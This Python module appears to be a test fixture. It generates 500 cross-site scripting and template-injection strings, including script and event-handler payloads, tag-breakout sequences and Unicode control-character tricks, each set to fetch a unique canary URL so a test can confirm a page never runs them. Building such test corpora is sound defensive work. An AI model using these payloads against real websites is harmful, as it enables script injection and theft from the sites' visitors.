"""Texts that someone on a Desktop could choose to get something out of whoever looks at a page of it."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

# `{url}` is an address that must never be asked, another one for each text.
_TEXTS = (
    "<script>fetch('{url}')</script>",
    "<script src={url}></script>",
    "<ScRiPt/src={url}>",
    "<img src={url}>",
    "<img src=x onerror=fetch('{url}')>",
    "<svg onload=fetch('{url}')>",
    "<svg><script href='{url}'/></svg>",
    "<svg><use href='{url}#x'/><image href='{url}'/></svg>",
    "<math><mtext><table><mglyph><style><img src={url}>",
    "<math href='javascript:fetch(`{url}`)'>x</math>",
    "javascript:fetch('{url}')",
    "<a href='javascript:fetch(`{url}`)'>x</a>",
    "<iframe src={url}></iframe>",
    "<iframe srcdoc='<script src={url}></script>'>",
    "<object data={url}></object><embed src={url}>",
    "<link rel=stylesheet href={url}><link rel=prefetch href={url}>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<base href={url}>",
    "<form action={url}><button autofocus>",
    "<input autofocus onfocus=fetch('{url}')>",
    "<details open ontoggle=fetch('{url}')>",
    "<video poster={url}><source src={url}></video><audio src={url} autoplay>",
    "<body background={url} onload=fetch('{url}')>",
    "<p style='background:url({url})'>",
    "</style><style>*{{background:url({url})}}</style>",
    "*{{background:url({url})}}</style>",
    "@import '{url}';",
    "</title><script src={url}></script>",
    "</desc></svg><img src={url}>",
    "</code></p></li></ul></article><img src={url}>",
    "</time></td></tr></table><script src={url}></script>",
    '" onmouseover=fetch("{url}") x="',
    "' onfocus=fetch('{url}') autofocus tabindex=0 x='",
    "` onload=fetch('{url}') x=`",
    "<!-- <img src={url}> --!><img src={url}>",
    "--><img src={url}>",
    "<![CDATA[<img src={url}>]]>",
    "<template><img src={url}></template><noscript><img src={url}></noscript>",
    "<plaintext><textarea><xmp><select>",
    "&lt;img src={url}&gt; &#x3c;img src={url}&#x3e; &quot; onload=x",
    "{{{{ ''.__class__.__mro__ }}}} {{% include 'page.html' %}} {{# x #}}",
    "{{{{ '{url}' | safe }}}} ${{7*7}} #{{7*7}} <%= 7*7 %>",
    "\u202egnp.exe<img src={url}>\u2066\u2069\u200f",
    "\u200b\ufeff\u00ad<\u200bimg src={url}>",
    "\0<scr\0ipt src={url}>\0",
    "\x1b]0;owned\x07\x9b31m\r\n<img src={url}>\u2028\u2029\x0b\x0c",
    "\udcff\udcfe<img src={url}>\udc80 \ud800",
    "A" * 4096 + "<img src={url}>",
    "<" * 4096,
    "\U000e0041\U0010ffff\ue000\ufffe<img src={url}>",
)
_BEFORE = ("", "/home/me/", '"', "'", ">", "\\", '">', "'>", "&", "\n")


def hostile_texts(address: str) -> Iterator[str]:
    """Yield 500 of them, each different; those that ask for something ask below `address`."""
    for number, (before, text) in enumerate(product(_BEFORE, _TEXTS)):
        yield before + text.format(url=f"{address}/asked/{number}")
